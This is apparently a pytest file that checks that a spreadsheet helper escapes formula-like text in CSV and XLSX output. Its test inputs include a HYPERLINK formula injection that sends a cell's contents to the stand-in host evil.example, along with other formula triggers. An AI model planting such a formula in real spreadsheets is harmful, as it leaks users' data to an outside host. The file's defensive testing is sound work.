"""Text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from healthtrainer.core.spreadsheets import CsvWriter, append_row, safe_cell, unquoted

PLANTED = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", PLANTED)
def test_formula_text_gets_an_apostrophe_and_reads_back_as_typed(text):
    assert safe_cell(text) == "'" + text
    assert unquoted(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-5, 2.5, Decimal("-1.25"), date(2011, 1, 1), None, True])
def test_numbers_dates_and_empty_cells_are_left_as_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-5", "+3", "-0.5", "Pacing", "It's fine", "'quoted"])
def test_plain_text_and_text_that_is_only_a_number_are_left_as_they_are(text):
    assert safe_cell(text) == text
    assert unquoted(text) == text


def test_a_csv_row_is_written_safe():
    out = io.StringIO()
    CsvWriter(out).writerows([["name", "count"], [PLANTED[0], -3]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'" + PLANTED[0], "-3"]


def test_an_xlsx_row_holds_no_formula():
    book = Workbook()
    for text in PLANTED:
        append_row(book.active, [text, -3])
    saved = io.BytesIO()
    book.save(saved)
    sheet = load_workbook(saved).active
    for row, text in zip(sheet.iter_rows(), PLANTED, strict=True):
        assert row[0].data_type == "s"
        # XML keeps no carriage return: it comes back as a line feed.
        assert row[0].value == "'" + text.replace("\r", "\n")
        assert row[1].value == -3
